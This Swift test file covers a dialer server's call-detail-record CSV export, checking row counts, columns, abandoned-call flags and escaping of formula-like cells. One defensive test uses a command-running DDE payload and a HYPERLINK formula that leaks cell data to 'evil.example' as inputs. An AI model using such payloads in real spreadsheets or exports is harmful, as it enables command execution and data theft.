import DialerCore
import ReadModels
import WritePath
import SwitchboardJSON
@testable import SwitchboardServer
import SwitchboardTestSupport
import Testing
import DialerSimulation

@Suite("Call-detail records")
struct CallDetailRecordTests {
    @Test func theCSVHasOneRowPerPlacedCallAsTheProjectionsHaveIt() async throws {
        let temp = try TemporaryStore()
        let handler = try await CommandHandler(store: temp.store)
        try await DemoScenario.run(handler)
        let head = try await temp.store.headPosition()
        let records = try await CallDetailRecord.records(temp.store, from: 1, to: head)
        let state = await handler.state
        let placed = state.batches.values.flatMap { group in group.calls.filter(\.isPlaced).map { (group, $0) } }
        #expect(records.count == placed.count)
        for (group, call) in placed {
            let record = try #require(records.first { $0.batchId == group.id && $0.call.id == call.id })
            #expect(record.call == call && record.agentId == group.agentId && record.queueId == group.queueId)
        }
        let csv = CallDetailRecord.csv(records).split(separator: "\r\n", omittingEmptySubsequences: true)
        #expect(csv.count == placed.count + 1)
        let header = csv[0].split(separator: ",").map(String.init)
        let winner = try #require(records.first { $0.disposition != nil })
        let row = try #require(csv.first { $0.contains(",\(winner.call.id.rawValue),") }).split(separator: ",", omittingEmptySubsequences: false)
        #expect(row[header.firstIndex(of: "disposition")!] == "interested")
        #expect(row[header.firstIndex(of: "calling_number")!] == Substring("'" + winner.call.callerId.e164), "a number is text, not a formula")
        let abandoned = try #require(records.first { $0.call.abandoned })
        let abandonedRow = try #require(csv.first { $0.contains(",\(abandoned.batchId.rawValue),\(abandoned.call.id.rawValue),") })
        #expect(abandonedRow.contains(",true,after-winner,true,"), "abandoned, why, and its safe-harbor message played")
        // A window of positions keeps only the calls placed in it.
        let late = try await CallDetailRecord.records(temp.store, from: head / 2, to: head)
        #expect(late.allSatisfy { $0.dialedPosition >= head / 2 } && late.count < records.count)
    }

    /// Issue 20, D17: what a supervisor or a carrier can put in a cell is never a formula.
    @Test func aCellThatASpreadsheetWouldRunIsText() {
        #expect(CSV.field("=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0")
        #expect(CSV.field(#"=HYPERLINK("http://evil.example/?"&A1,"click")"#) == #""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#)
        #expect(CSV.field("+15125550100") == "'+15125550100")
        #expect(CSV.field("-1") == "'-1" && CSV.field("@SUM(A1)") == "'@SUM(A1)" && CSV.field("\tx") == "'\tx")
        #expect(CSV.field("agent-1") == "agent-1" && CSV.field("a,b") == "\"a,b\"")
    }
}
